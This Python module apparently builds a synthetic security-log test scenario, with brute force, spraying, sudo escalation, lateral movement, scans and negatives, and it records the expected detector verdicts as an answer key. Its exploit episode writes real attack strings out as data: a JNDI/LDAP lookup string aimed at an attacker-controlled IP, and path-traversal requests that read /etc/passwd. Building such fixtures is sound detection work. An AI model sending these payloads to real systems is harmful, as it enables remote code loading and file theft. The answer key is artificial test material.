"""The story: cast assets from the topology in 14 episodes plus negatives; record the truth.

Each episode writes its lines through the `World` and appends its `Expectation`s. Draw order
is fixed, so a seed always gives the same story.
"""

from __future__ import annotations

import ipaddress
import random
from dataclasses import dataclass
from datetime import timedelta
from typing import Any

from .content import (
    AGENTS,
    ATTACK_USERS,
    EMPLOYEES,
    EXPLOITS_443,
    EXPLOITS_DB,
    LOGIN_USERS,
    MISSING_PATHS,
    SPRAY_EXTRA,
    WEB_PATHS,
)
from .world import Expectation, World, overlaps

# ------------------------------------------------------------------------------------------
# the cast and the story


@dataclass(frozen=True)
class Cast:
    """What the story leaves for the noise (the rest of the cast is in `World.cast`)."""

    #: employee -> the IP they work from (their workstation's, else one in corp or public)
    ws_ip: dict[str, str]
    #: users the story already uses: the noise leaves them alone
    busy_users: frozenset[str]


def _pick(rng: random.Random, items: list, what: str) -> Any:
    if not items:
        raise ValueError(f"the topology has no asset for {what}")
    return rng.choice(sorted(items))


def tell_story(g: World) -> Cast:
    """Write every episode; return what the noise needs of the cast."""
    rng, t = g.rng, g.t
    names = [a.name for a in t.assets]

    def tag(tg: str) -> list[str]:
        return [n for n in names if tg in g.assets[n].tags]

    linux = [n for n in names if g.linux(n) and g.assets[n].role not in ("firewall",)]
    public = [
        n
        for n in tag("public-facing")
        if g.linux(n)
        and g.exposes(n, 22)
        and g.exposes(n, 443)
        and g.zone_allows("internet", g.zone[n], 443)
    ]
    if not public:
        public = [n for n in linux if g.zone[n] == "dmz" and g.exposes(n, 22)]
    servers = [
        n
        for n in linux
        if n not in public
        and g.exposes(n, 22)
        and ("crown-jewel" in g.assets[n].tags or g.zone[n] == "servers")
    ]
    internal_servers = [n for n in linux if g.zone[n] == "servers" and g.exposes(n, 22)] or servers
    scanner = _pick(rng, tag("authorized-scanner"), "the authorized scanner")
    monitor = _pick(
        rng,
        [n for n in tag("monitoring") if g.assets[n].role != "ids-sensor"] or tag("monitoring"),
        "the monitoring host",
    )
    jump = _pick(rng, tag("jump-host"), "the jump host")
    workstations = [n for n in names if g.zone[n] == "corp" or g.assets[n].role == "workstation"]
    dmz = [n for n in linux if g.zone[n] == "dmz"]

    employees = rng.sample(EMPLOYEES, 9)
    owners = [o for w in workstations if (o := g.assets[w].owner)]
    for o in owners:  # workstation owners are employees too
        if o not in employees:
            employees.append(o)
    admins = employees[:3]
    g.cast["employees"] = employees
    g.cast["admins"] = admins
    # employee -> workstation IP
    ws_ip: dict[str, str] = {}
    for w in workstations:
        o = g.assets[w].owner
        if o and g.assets[w].ips:
            ws_ip[o] = g.assets[w].ips[0]
    for e in employees:
        if e not in ws_ip:
            ws_ip[e] = (
                g.zone_ip("corp") if any(z.name == "corp" for z in t.zones) else g.public_ip()
            )
    busy_users: set[str] = set()

    # ---- 1-4: brute force, login, sudo, lateral movement ---------------------------------
    V = _pick(rng, public, "a public-facing victim")
    T = _pick(
        rng,
        [n for n in servers if n != V] or [n for n in linux if n != V],
        "a lateral-movement target",
    )
    X = g.public_ip()
    t0 = g.free_time(80, [V, T])
    n_fail = rng.randint(25, 60)
    dur = rng.uniform(120, 360)
    login_user = rng.choice(LOGIN_USERS)
    users = rng.sample(ATTACK_USERS, rng.randint(2, 3)) + [login_user]  # <= 4 names: not a spray
    valid = {u: (u in ("root", login_user)) for u in users}
    times = sorted(t0 + timedelta(seconds=rng.uniform(0, dur)) for _ in range(n_fail))
    i = 0
    while i < len(times):
        k = min(rng.randint(3, 6), len(times) - i)
        user, pid, p = rng.choice(users), g.nextpid(), g.port()
        for j in range(k):
            g.ssh_fail_password(times[i + j], V, user, X, valid[user], pid, p, pam=(j == 0))
        g.ssh_close_preauth(
            times[i + k - 1] + timedelta(seconds=rng.uniform(3, 5)), V, user, X, pid, p, valid[user]
        )
        i += k
    t_login = times[-1] + timedelta(seconds=rng.uniform(30, 480))
    g.ssh_accept(t_login, V, login_user, X, method="password", close_after=rng.uniform(3000, 4000))
    t_sudo = t_login + timedelta(seconds=rng.uniform(60, 720))
    g.sudo_cmd(t_sudo, V, login_user, "/bin/bash")
    t_hop = t_sudo + timedelta(seconds=rng.uniform(300, 1800))
    t_hop = min(t_hop, t_login + timedelta(minutes=50))
    g.ssh_accept(
        t_hop,
        T,
        login_user,
        g.ip(V),
        method=rng.choice(("password", "publickey")),
        close_after=rng.uniform(600, 1500),
    )
    g.sudo_cmd(
        t_hop + timedelta(seconds=rng.uniform(30, 240)), T, login_user, "/bin/bash", tty="pts/1"
    )
    busy_users.add(login_user)
    g.cast.update(victim=V, lateral_target=T, brute_forcer=X, login_user=login_user)
    ent = {"source.ip": X, "host": V}
    g.expected += [
        Expectation(
            "1",
            "ssh-brute-force",
            "raised",
            "T1110",
            dict(ent),
            note=f"{n_fail} failed passwords in {dur / 60:.1f} min for {', '.join(users)}",
        ),
        Expectation(
            "2",
            "ssh-brute-force-then-login",
            "raised",
            "T1110",
            {**ent, "user": login_user},
            note=f"Accepted password for {login_user} at {t_login:%H:%M:%S} (also T1078)",
        ),
        Expectation(
            "3",
            "privilege-escalation-after-login",
            "raised",
            "T1548",
            {**ent, "user": login_user},
            note=f"sudo /bin/bash at {t_sudo:%H:%M:%S}",
        ),
        Expectation(
            "4",
            "lateral-movement",
            "raised",
            "T1021",
            {**ent, "destination.ip": g.ip(T), "destination.asset": T, "user": login_user},
            note=f"{V} ({g.ip(V)}) logs in to {T} at {t_hop:%H:%M:%S}",
        ),
    ]

    # ---- 5: vertical port scan from the internet ------------------------------------------
    D = _pick(rng, dmz, "a dmz asset to scan")
    Y = g.public_ip()
    ts = g.when(5, 10)
    n_ports = rng.randint(30, 80)
    ports = sorted(rng.sample(range(1, 10000), n_ports))
    span = rng.uniform(60, 170)
    for k, dpt in enumerate(rng.sample(ports, len(ports))):
        tt = ts + timedelta(seconds=span * k / n_ports + rng.uniform(0, 0.5))
        spt = g.port()
        if g.zone_allows("internet", g.zone[D], dpt):
            g.asa_conn(
                tt, Y, spt, g.ip(D), dpt, rng.uniform(0, 1), rng.randint(0, 120), "TCP Reset-O"
            )
        else:
            g.asa_deny(tt, Y, spt, g.ip(D), dpt)
            if rng.random() < 0.35:
                g.kern(tt + timedelta(milliseconds=3), D, "FW-DROP", Y, g.ip(D), dpt, spt)
    g.cast["vertical_scanner"] = Y
    g.expected.append(
        Expectation(
            "5",
            "port-scan-vertical",
            "raised",
            "T1046",
            {"source.ip": Y, "destination.ip": g.ip(D), "destination.asset": D},
            note=f"{n_ports} ports in {span:.0f} s",
        )
    )

    # ---- 6: horizontal sweep from a corp workstation --------------------------------------
    W = _pick(rng, [w for w in workstations if g.assets[w].ips], "a corp workstation")
    w_ip = g.ip(W)
    sweep_port = rng.choice((445, 22))
    zones = [
        z.name
        for z in t.zones
        if z.name not in ("internet", g.zone[W])
        and any(ipaddress.ip_network(c).version == 4 for c in z.cidrs)
        and not g.zone_allows(g.zone[W], z.name, sweep_port)
    ]
    n_hosts = rng.randint(12, 30)
    ts = g.when(5, 10)
    span = rng.uniform(90, 230)
    targets = [g.zone_ip(rng.choice(zones)) for _ in range(n_hosts)]
    for k, dst in enumerate(targets):
        tt = ts + timedelta(seconds=span * k / n_hosts + rng.uniform(0, 1))
        g.asa_acl_deny(tt, w_ip, g.port(), dst, sweep_port)
    g.cast["sweeper"] = W
    g.expected.append(
        Expectation(
            "6",
            "port-sweep-horizontal",
            "raised",
            "T1046",
            {"source.ip": w_ip, "source.asset": W, "destination.port": sweep_port},
            note=f"{n_hosts} hosts on {sweep_port}/tcp in {span:.0f} s (zones {', '.join(sorted({str(t.zone_of(x)) for x in targets}))})",
        )
    )

    # ---- 7: exploit against V:443 ------------------------------------------------------------
    Z = g.public_ip()
    ts = g.when(5, 10)
    agent = rng.choice(
        (
            "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
            "python-requests/2.31.0",
            "curl/8.4.0",
            "Go-http-client/1.1",
        )
    )
    sigs = rng.sample(EXPLOITS_443, rng.randint(2, 3))
    exploit_paths = {
        2024897: "/struts2-showcase/integration/saveGangster.action",
        2034647: "/?x=${jndi:ldap://" + Z + ":1389/a}",
        2031502: "/cgi-bin/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
        2027096: "/rest/tinymce/1/macro/preview",
        2030469: "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd",
    }
    n_alerts = 0
    for sig in sigs:
        for _ in range(rng.randint(1, 3)):
            ts += timedelta(seconds=rng.uniform(2, 40))
            spt = g.port()
            g.asa_conn(
                ts - timedelta(milliseconds=40),
                Z,
                spt,
                g.ip(V),
                443,
                rng.uniform(0.2, 2),
                rng.randint(600, 4000),
            )
            g.eve_alert(ts, Z, spt, g.ip(V), 443, sig, 1, "http")
            g.web(
                ts,
                V,
                Z,
                "POST" if sig[0] in (2024897, 2027096) else "GET",
                exploit_paths[sig[0]],
                rng.choice((400, 404, 500)),
                agent,
            )
            n_alerts += 1
    g.cast["exploiter"] = Z
    g.expected.append(
        Expectation(
            "7",
            "exploit-public-service",
            "raised",
            "T1190",
            {
                "source.ip": Z,
                "destination.ip": g.ip(V),
                "destination.port": 443,
                "destination.asset": V,
            },
            note=f"{n_alerts} severity-1 alerts: " + "; ".join(s[2] for s in sigs),
        )
    )

    # ---- 8: password spraying -------------------------------------------------------------
    P = _pick(rng, public, "a public-facing asset to spray")
    S = g.public_ip()
    n_users = rng.randint(8, 12)
    pool = [e for e in employees if e not in admins] + list(SPRAY_EXTRA)
    spray_users = rng.sample(pool, n_users)
    attempts = list(spray_users) + rng.sample(
        spray_users, min(12, n_users + rng.randint(0, 2)) - n_users
    )
    rng.shuffle(attempts)
    ts = g.when(5, 15)
    t_first = ts
    for u in attempts:
        pid, p = g.nextpid(), g.port()
        ok = u in employees
        g.ssh_fail_password(ts, P, u, S, ok, pid, p, pam=True)
        g.ssh_close_preauth(ts + timedelta(seconds=rng.uniform(3, 5)), P, u, S, pid, p, ok)
        ts += timedelta(seconds=rng.uniform(38, 44))
    g.cast["sprayer"] = S
    g.expected.append(
        Expectation(
            "8",
            "ssh-password-spraying",
            "raised",
            "T1110.003",
            {"source.ip": S, "host": P},
            note=f"{len(attempts)} attempts on {n_users} accounts in "
            f"{(ts - t_first).total_seconds() / 60:.1f} min, < 10 per 5 min",
        )
    )

    # ---- 9: insider sudo after failures ---------------------------------------------------
    I_ = _pick(rng, internal_servers, "an internal server")
    insider = rng.choice([e for e in employees if e not in admins])
    busy_users.add(insider)
    t0 = g.free_time(15, [I_])
    g.ssh_accept(t0, I_, insider, ws_ip[insider], close_after=rng.uniform(1500, 3000))
    tf = t0 + timedelta(seconds=rng.uniform(60, 180))
    g.sudo_fail(tf, I_, insider, "pts/2", "/bin/bash", three=True)
    g.sudo_fail(
        tf + timedelta(seconds=rng.uniform(60, 150)), I_, insider, "pts/2", "/bin/bash", three=False
    )
    g.sudo_cmd(tf + timedelta(seconds=rng.uniform(200, 500)), I_, insider, "/bin/bash", tty="pts/2")
    g.expected.append(
        Expectation(
            "9",
            "privilege-escalation-after-failures",
            "raised",
            "T1548",
            {"host": I_, "user": insider},
            note="insider: sudo failures then sudo /bin/bash",
        )
    )

    # ---- 10: the authorized scanner -------------------------------------------------------
    D2 = _pick(rng, dmz, "a dmz asset the scanner scans")
    s_ip = g.ip(scanner)
    ts = g.when(5, 15)
    n_ports = rng.randint(40, 90)
    ports = sorted(rng.sample(range(1, 10000), n_ports))
    for k, dpt in enumerate(ports):
        tt = ts + timedelta(seconds=k * rng.uniform(0.5, 2.5))
        spt = g.port()
        if g.zone_allows(g.zone[scanner], g.zone[D2], dpt):
            g.asa_conn(
                tt,
                s_ip,
                spt,
                g.ip(D2),
                dpt,
                rng.uniform(0, 0.5),
                rng.randint(0, 200),
                "TCP Reset-O",
            )
            if not g.exposes(D2, dpt) and rng.random() < 0.5:
                g.kern(tt + timedelta(milliseconds=2), D2, "[UFW BLOCK]", s_ip, g.ip(D2), dpt, spt)
        else:
            g.asa_deny(tt, s_ip, spt, g.ip(D2), dpt)
    g.expected.append(
        Expectation(
            "10",
            "port-scan-vertical",
            "cut",
            "T1046",
            {
                "source.ip": s_ip,
                "source.asset": scanner,
                "destination.ip": g.ip(D2),
                "destination.asset": D2,
            },
            reason_contains="authorized scanner",
            note=f"{scanner} scans {n_ports} ports",
        )
    )

    # ---- 11: the monitoring host with a stale key -----------------------------------------
    M = _pick(rng, [n for n in internal_servers], "a server the monitoring host checks")
    m_ip = g.ip(monitor)
    ts = g.when(5, 15)
    n = rng.randint(15, 30)
    span = rng.uniform(150, 280)
    for k in range(n):
        tt = ts + timedelta(seconds=span * k / n)
        pid, p = g.nextpid(), g.port()
        g.auth(tt, M, "sshd", pid, f"Failed publickey for nagios from {m_ip} port {p} ssh2")
        g.ssh_close_preauth(
            tt + timedelta(milliseconds=rng.randint(5, 80)), M, "nagios", m_ip, pid, p
        )
    g.expected.append(
        Expectation(
            "11",
            "ssh-brute-force",
            "cut",
            "T1110",
            {"source.ip": m_ip, "source.asset": monitor, "host": M},
            reason_contains="monitoring",
            note=f"{monitor}: {n} Failed publickey for nagios in {span / 60:.1f} min",
        )
    )

    # ---- 12: admin from home through the jump host ----------------------------------------
    J = g.public_ip()
    admin = rng.choice(admins)
    busy_users.add(admin)
    hops = rng.sample(
        [
            n
            for n in linux
            if n not in (jump, scanner, monitor, g.ids)
            and g.exposes(n, 22)
            and g.zone[n] != g.zone[jump]
        ],
        3,
    )
    t0 = g.free_time(50, [jump, *hops])
    g.ssh_accept(t0, jump, admin, J, close_after=rng.uniform(3000, 3200))
    tt = t0
    for h in hops:
        tt += timedelta(seconds=rng.uniform(120, 700))
        g.ssh_accept(tt, h, admin, g.ip(jump), close_after=rng.uniform(60, 600))
    g.expected.append(
        Expectation(
            "12",
            "lateral-movement",
            "cut",
            "T1021",
            {"source.ip": J, "host": jump, "user": admin},
            reason_contains="jump host",
            note=f"{admin} from home to {jump}, then {', '.join(hops)}",
        )
    )

    # ---- 13: sudo failures during the approved change -------------------------------------
    windows = sorted(
        t.change_windows,
        key=lambda w: (
            not overlaps(w.start.to_pydatetime(), w.end.to_pydatetime(), g.start, g.end),
            w.start,
        ),
    )
    cw_hosts = [(w, a) for w in windows for a in w.assets if a in g.assets and g.linux(a)]
    if not cw_hosts:
        raise ValueError("the topology has no change window on a linux asset")
    in_span = [
        c
        for c in cw_hosts
        if overlaps(c[0].start.to_pydatetime(), c[0].end.to_pydatetime(), g.start, g.end)
    ]
    cw, C = rng.choice(in_span or cw_hosts)
    ws, we = cw.start.to_pydatetime(), cw.end.to_pydatetime()
    dba = rng.choice([a for a in admins if a != admin])
    busy_users.add(dba)
    t0 = ws + timedelta(seconds=rng.uniform(300, max(301, (we - ws).total_seconds() - 1200)))
    g.ssh_accept(t0, C, dba, g.ip(jump), close_after=rng.uniform(900, 1100))
    tf = t0 + timedelta(seconds=rng.uniform(30, 120))
    g.sudo_fail(tf, C, dba, "pts/0", "/usr/bin/systemctl restart postgresql", three=True)
    g.sudo_cmd(
        tf + timedelta(seconds=rng.uniform(60, 300)),
        C,
        dba,
        "/usr/bin/systemctl restart postgresql",
    )
    g.cast["change_window"] = {"host": C, "ticket": cw.ticket}
    g.expected.append(
        Expectation(
            "13",
            "privilege-escalation-after-failures",
            "cut",
            "T1548",
            {"host": C, "user": dba},
            reason_contains="change window",
            note=f"{cw.ticket} {ws:%H:%M}-{we:%H:%M}Z, at {tf:%H:%M:%S}",
        )
    )

    # ---- 14: exploits that cannot work ----------------------------------------------------
    unreach = []
    for host in names:
        for svc in g.assets[host].services or ():
            if (
                svc.transport == "tcp"
                and svc.low == svc.high
                and svc.low != 22
                and not g.zone_allows("internet", g.zone[host], svc.low)
            ):
                unreach.append((("crown-jewel" not in g.assets[host].tags), host, svc.low))
    unreach.sort()
    best = [u for u in unreach if u[0] == unreach[0][0]] if unreach else []
    _, Qh, Qp = rng.choice(best) if best else (None, None, None)
    if Qh and Qp is not None:
        Q = g.public_ip()
        ts = g.when(5, 10)
        q_sigs = EXPLOITS_DB if Qp == 5432 else EXPLOITS_443[:2]
        for _ in range(rng.randint(2, 4)):
            ts += timedelta(seconds=rng.uniform(1, 30))
            spt = g.port()
            g.asa_deny(ts - timedelta(milliseconds=30), Q, spt, g.ip(Qh), Qp)
            g.eve_alert(ts, Q, spt, g.ip(Qh), Qp, rng.choice(q_sigs), 1, None)
        g.expected.append(
            Expectation(
                "14a",
                "exploit-public-service",
                "cut",
                "T1190",
                {
                    "source.ip": Q,
                    "destination.ip": g.ip(Qh),
                    "destination.port": Qp,
                    "destination.asset": Qh,
                },
                reason_contains="zone policy",
                note=f"internet -> {g.zone[Qh]} {Qp}/tcp is not allowed",
            )
        )
    R = g.public_ip()
    Rh = _pick(rng, [n for n in public if not g.exposes(n, 8443)], "a web asset without 8443")
    ts = g.when(5, 10)
    for _ in range(rng.randint(2, 4)):
        ts += timedelta(seconds=rng.uniform(1, 30))
        spt = g.port()
        g.asa_deny(ts - timedelta(milliseconds=30), R, spt, g.ip(Rh), 8443)
        g.eve_alert(ts, R, spt, g.ip(Rh), 8443, rng.choice(EXPLOITS_443), 1, None)
    g.expected.append(
        Expectation(
            "14b",
            "exploit-public-service",
            "cut",
            "T1190",
            {
                "source.ip": R,
                "destination.ip": g.ip(Rh),
                "destination.port": 8443,
                "destination.asset": Rh,
            },
            reason_contains="does not expose",
            note=f"{Rh} does not expose 8443/tcp",
        )
    )

    # ---- negatives ---------------------------------------------------------------------------
    typo = rng.choice([e for e in employees if e not in busy_users])
    busy_users.add(typo)
    H = _pick(rng, internal_servers, "a server for the sudo typo")
    t0 = g.free_time(10, [H])
    g.ssh_accept(t0, H, typo, ws_ip[typo], close_after=rng.uniform(600, 1800))
    tf = t0 + timedelta(seconds=rng.uniform(30, 200))
    g.sudo_fail(tf, H, typo, "pts/3", "/usr/bin/systemctl restart app", three=False)
    g.sudo_cmd(
        tf + timedelta(seconds=rng.uniform(4, 12)),
        H,
        typo,
        "/usr/bin/systemctl restart app",
        tty="pts/3",
    )
    g.expected.append(
        Expectation(
            "N1", "any", "none", None, {"host": H, "user": typo}, note="one sudo typo, then success"
        )
    )

    E = g.public_ip()
    H = _pick(rng, public, "a public-facing asset")
    ts = g.when(5, 10)
    pid, p = g.nextpid(), g.port()
    u = rng.choice(("root", "admin"))
    for k in range(3):
        g.ssh_fail_password(
            ts + timedelta(seconds=k * rng.uniform(4, 9)),
            H,
            u,
            E,
            u == "root",
            pid,
            p,
            pam=(k == 0),
        )
    g.ssh_close_preauth(ts + timedelta(seconds=40), H, u, E, pid, p, u == "root")
    g.expected.append(
        Expectation(
            "N2", "any", "none", None, {"source.ip": E, "host": H}, note="3 failed passwords only"
        )
    )

    Fc = g.public_ip()
    H = _pick(rng, public, "a web server")
    ts = g.when(5, 20)
    ag = rng.choice(AGENTS[:4])
    n_req = rng.randint(20, 40)
    n404 = rng.randint(2, 4)
    reqs = [(rng.choice(WEB_PATHS), rng.choice((200, 200, 200, 304))) for _ in range(n_req - n404)]
    reqs += [(rng.choice(MISSING_PATHS), 404) for _ in range(n404)]
    rng.shuffle(reqs)
    for path, st in reqs:
        ts += timedelta(seconds=rng.uniform(1, 25))
        g.web(
            ts, H, Fc, "GET", path, st, ag, referer=f"https://{(g.assets[H].hostnames or (H,))[0]}/"
        )
    g.expected.append(
        Expectation(
            "N3",
            "any",
            "none",
            None,
            {"source.ip": Fc, "host": H},
            note=f"normal browsing: {n_req} requests, {n404} of them 404",
        )
    )

    Dz = g.public_ip()
    H = _pick(rng, public, "a public-facing asset")
    ts = g.when(5, 15)
    for _ in range(50):
        ts += timedelta(seconds=rng.uniform(1, 9))
        pid, p = g.nextpid(), g.port()
        if rng.random() < 0.5:
            g.auth(
                ts, H, "sshd", pid, f"Received disconnect from {Dz} port {p}:11: Bye Bye [preauth]"
            )
        else:
            g.auth(ts, H, "sshd", pid, f"Connection closed by {Dz} port {p} [preauth]")
    g.expected.append(
        Expectation(
            "N4",
            "any",
            "none",
            None,
            {"source.ip": Dz, "host": H},
            note="50 preauth disconnects (no authentication attempt)",
        )
    )

    g.cast.update(scanner=scanner, monitor=monitor, jump=jump)
    return Cast(ws_ip, frozenset(busy_users))
